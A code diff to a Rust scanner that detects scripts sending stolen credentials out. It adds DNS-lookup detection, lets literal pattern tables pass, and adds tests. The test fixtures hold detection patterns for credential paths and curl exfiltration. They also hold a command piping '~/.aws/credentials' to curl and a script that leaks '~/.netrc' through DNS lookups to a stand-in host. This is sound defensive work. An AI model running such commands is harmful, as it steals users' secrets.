@@ -467,7 +467,8 @@ fn secrets_gathered_in_a_sending_script(text: &Text) -> Option<Finding> {
                 .map(|(start, l)| (start, without_comment(l)))
                 .filter(|(_, l)| is_code_line(l) && COVERT_SEND.is_match(l)),
         )
-        .filter(|(_, l)| to_outside(l))
+        // A name looked up carries data to whichever server answers for its zone.
+        .filter(|(_, l)| to_outside(l) || DNS_LOOKUP.is_match(l))
         .min_by_key(|(start, _)| *start)?;
     let span = text.line_at(start);
     Some(text.finding(
@@ -482,6 +483,50 @@ fn secrets_gathered_in_a_sending_script(text: &Text) -> Option<Finding> {
          the user's credentials and then talks to a bare address or a collecting service",
         "call the service the credential belongs to, through its own tool or API",
     ))
+}
+
+/// Whether a statement only names a table of string literals (`PATTERNS = [(r"curl.*\|", "a
+/// pipe"), …]`): a detector's patterns and labels, data that runs nothing. Strings with
+/// interpolation (`f"…"`, `` `${x}` ``) may hold code and do not count.
+fn is_literal_table(statement: &str) -> bool {
+    let Some((name, value)) = statement.split_once('=') else {
+        return false;
+    };
+    let name = name.trim();
+    let value = value.trim_start();
+    if name.is_empty()
+        || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+        || !value.starts_with(['[', '(', '{'])
+    {
+        return false;
+    }
+    let mut rest = String::new();
+    let mut quote = None;
+    let mut escaped = false;
+    for c in value.chars() {
+        match quote {
+            Some(q) => {
+                if escaped {
+                    escaped = false;
+                } else if c == '\\' {
+                    escaped = true;
+                } else if c == q {
+                    quote = None;
+                }
+            }
+            None if matches!(c, '"' | '\'') => quote = Some(c),
+            None => rest.push(c),
+        }
+    }
+    quote.is_none()
+        && rest.contains(',')
+        && rest.chars().all(|c| {
+            c.is_whitespace()
+                || matches!(
+                    c,
+                    '[' | ']' | '(' | ')' | '{' | '}' | ',' | ':' | 'r' | 'b' | 'u'
+                )
+        })
 }
 
 /// `line` without a trailing comment (`/* … */`, or `//` after a space): the words of a
@@ -516,6 +561,12 @@ fn hides_an_address_in(text: &Text) -> bool {
 static IP_AS_NUMBERS: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(r"[\[(][[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*,[[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*,[[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*,[[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*[\])]")
         .expect("a valid address-numbers pattern")
+});
+
+/// A name resolved by a program's own call (not a command's name, which prose shares).
+static DNS_LOOKUP: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r"(?i)(?-u:\b)(?:getaddrinfo|gethostbyname(?:_ex)?|dns\.(?:resolve[46]?|lookup)|inet_res\.[[:word:]]+|resolve-dnsname|nslookup)(?-u:\b)")
+        .expect("a valid lookup pattern")
 });
 
 /// The words of secret variables' names, quoted as a filter tests them (`u.Contains("TOKEN")`).
@@ -905,6 +956,9 @@ impl Flow<'_> {
         }
         if matches!(code.trim_end(), "{" | "(") {
             self.groups.push((0, 0));
+            return;
+        }
+        if is_literal_table(code) {
             return;
         }
         let mut line = self.read(raw);
@@ -1562,6 +1616,7 @@ pub(super) fn compile() {
         &DECODE,
         &LOAD,
         &IP_AS_NUMBERS,
+        &DNS_LOOKUP,
         &SECRET_NAME_WORDS,
         &GIT_PUSH,
         &ADDRESS_ASSIGNED,
@@ -1655,6 +1710,17 @@ mod tests {
         let ex = "def fetch(url) do\n  {:ok, {_, _, body}} = :httpc.request(:get, {String.to_charlist(url), []}, [], [])\n  body\nend\n{rules, _} = Code.eval_string(Scan.fetch(feed))\n";
         assert_eq!(codes("scripts/scan.exs", ex), ["SK901"]);
         assert!(codes("scripts/plain.lua", "local f = loadstring(\"return 1\")\n").is_empty());
+    }
+
+    #[test]
+    fn a_detectors_table_of_patterns_runs_nothing_and_a_lookup_carries_data() {
+        let table = "PHRASES = [\n    (r\"\\.aws/credentials|id_rsa\", \"C: credential path\"),\n    (r\"push\\s+--mirror|curl .* -d\", \"D: exfil\"),\n]\n";
+        assert!(codes("scripts/flag.py", table).is_empty());
+        let built = "CMD = [\"cat ~/.aws/credentials\", f\"| curl -d @- {URL}\"]\n";
+        assert!(!is_literal_table(built));
+        // Credential files hex-encoded into the names a script looks up.
+        let dns = "HINTS = [\"~/.netrc\", \"~/.git-credentials\"]\nfor label in chunks(read(HINTS)):\n    socket.getaddrinfo(f\"{label}.probe.bench.example\", 443)\n";
+        assert_eq!(codes("scripts/dnscheck.py", dns), ["SK908"]);
     }
 
     #[test]
